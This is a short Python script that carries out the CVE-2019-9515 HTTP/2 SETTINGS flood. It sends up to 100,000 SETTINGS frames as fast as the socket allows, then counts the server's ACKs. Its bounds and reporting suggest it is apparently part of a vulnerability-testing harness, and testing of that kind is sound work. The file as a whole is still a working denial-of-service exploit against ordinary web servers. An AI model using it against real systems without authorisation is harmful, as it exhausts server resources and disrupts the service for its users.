#!/usr/bin/python3
"""settings_flood: CVE-2019-9515. SETTINGS frames (each must be ACKed) as fast as the socket
takes them, bounded by --frames and --seconds; then listens 2 s.

  settings_flood.py --port N (--ca FILE | --plaintext) [--frames 100000] [--seconds 5]
"""
import time

from h2wire import Connection, SettingsFrame, main, parse_args

SETTINGS_INITIAL_WINDOW_SIZE = 4


def run():
    args = parse_args(__doc__, lambda p: p.add_argument("--frames", type=int, default=100_000))
    conn = Connection(args)
    frame = SettingsFrame(0, settings={SETTINGS_INITIAL_WINDOW_SIZE: 65535}).serialize()
    deadline = time.monotonic() + args.seconds
    sent = 0
    while sent < args.frames:
        n = min(1000, args.frames - sent)
        sent += n
        if not conn.send(frame * n, deadline):
            break
    conn.pump(time.monotonic() + 2)
    conn.report("settings_flood", settings_frames=sent, settings_acks=conn.account.settings_acks)
    conn.close()


if __name__ == "__main__":
    main(run)
